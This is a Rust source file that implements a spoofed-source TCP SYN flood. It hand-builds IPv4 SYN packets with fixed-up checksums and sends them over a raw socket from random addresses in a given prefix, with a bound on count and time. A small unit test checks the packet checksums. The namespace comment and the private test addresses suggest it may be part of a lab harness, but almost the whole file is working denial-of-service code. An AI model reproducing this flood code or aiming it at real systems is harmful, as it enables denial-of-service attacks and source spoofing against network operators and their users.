//! A SYN flood with spoofed sources, sent from a raw IPv4 socket with a
//! header of our own (the kernel only routes it: nothing checks that the
//! source is one of its addresses).

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use etherparse::PacketBuilder;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// xorshift64*: fast, and good enough to scatter addresses and ports.
struct Rng(u64);

impl Rng {
    fn new() -> Self {
        let t = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos() as u64)
            .unwrap_or(1);
        Self(t | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

/// An IPv4 TCP SYN with valid IP and TCP checksums.
pub fn syn_packet(src: SocketAddrV4, dst: SocketAddrV4, seq: u32, ip_id: u16) -> Vec<u8> {
    let builder = PacketBuilder::ipv4(src.ip().octets(), dst.ip().octets(), 64)
        .tcp(src.port(), dst.port(), seq, 64240)
        .syn();
    let mut out = Vec::with_capacity(builder.size(0));
    builder
        .write(&mut out, &[])
        .expect("writing to a Vec cannot fail");
    // Identification is part of the IP header checksum: patch both.
    let old = u16::from_be_bytes([out[4], out[5]]);
    out[4..6].copy_from_slice(&ip_id.to_be_bytes());
    let sum = u16::from_be_bytes([out[10], out[11]]);
    // RFC 1624: HC' = ~(~HC + ~m + m').
    let mut acc = u32::from(!sum) + u32::from(!old) + u32::from(ip_id);
    acc = (acc & 0xffff) + (acc >> 16);
    acc = (acc & 0xffff) + (acc >> 16);
    out[10..12].copy_from_slice(&(!(acc as u16)).to_be_bytes());
    out
}

/// Sends `count` SYNs to `target` from random addresses of
/// `base`/`prefix_len` and random ports above 1023, giving up at `bound`.
/// Must run inside the sending namespace. Returns how many were sent.
pub fn syn_flood(
    target: SocketAddrV4,
    base: Ipv4Addr,
    prefix_len: u8,
    count: usize,
    bound: Duration,
) -> Result<usize> {
    if prefix_len > 32 {
        bail!("prefix length {prefix_len} > 32");
    }
    let sock = Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )
    .context("raw IPv4 socket")?;
    // Implied by IPPROTO_RAW; explicit for clarity.
    sock.set_header_included_v4(true)?;
    let dest = SockAddr::from(std::net::SocketAddr::V4(target));
    let host_mask: u32 = if prefix_len == 0 {
        u32::MAX
    } else {
        u32::MAX >> prefix_len
    };
    let net = u32::from(base) & !host_mask;
    let mut rng = Rng::new();
    let deadline = Instant::now() + bound;
    let mut sent = 0;
    while sent < count {
        if Instant::now() >= deadline {
            bail!("sent only {sent} of {count} SYNs within {bound:?}");
        }
        let r = rng.next();
        // Neither the network nor the broadcast address of the range.
        let host = ((r as u32) & host_mask).clamp(1, host_mask.saturating_sub(1).max(1));
        let src = SocketAddrV4::new(
            Ipv4Addr::from(net | host),
            1024 + ((r >> 32) as u16 % (65535 - 1024)),
        );
        let packet = syn_packet(src, target, (r >> 16) as u32, (r >> 48) as u16);
        match sock.send_to(&packet, &dest) {
            Ok(_) => sent += 1,
            // The device queue is full: let it drain.
            Err(e) if matches!(e.raw_os_error(), Some(libc::ENOBUFS | libc::EAGAIN)) => {
                std::thread::sleep(Duration::from_millis(1));
            }
            Err(e) => return Err(e).with_context(|| format!("sending a SYN to {target}")),
        }
    }
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;
    use etherparse::{NetSlice, SlicedPacket, TransportSlice};

    #[test]
    fn syn_packets_carry_valid_checksums() {
        let src = SocketAddrV4::new(Ipv4Addr::new(10, 99, 1, 2), 40000);
        let dst = SocketAddrV4::new(Ipv4Addr::new(10, 73, 0, 10), 80);
        let p = syn_packet(src, dst, 12345, 0xbeef);
        let sliced = SlicedPacket::from_ip(&p).unwrap();
        let Some(NetSlice::Ipv4(ip)) = sliced.net else {
            panic!("not IPv4")
        };
        let header = ip.header().to_header();
        assert_eq!(header.identification, 0xbeef);
        assert_eq!(header.header_checksum, header.calc_header_checksum());
        let Some(TransportSlice::Tcp(tcp)) = sliced.transport else {
            panic!("not TCP")
        };
        assert!(tcp.syn() && !tcp.ack());
        let tcp_header = tcp.to_header();
        assert_eq!(
            tcp_header.checksum,
            tcp_header.calc_checksum_ipv4(&header, &[]).unwrap()
        );
    }
}
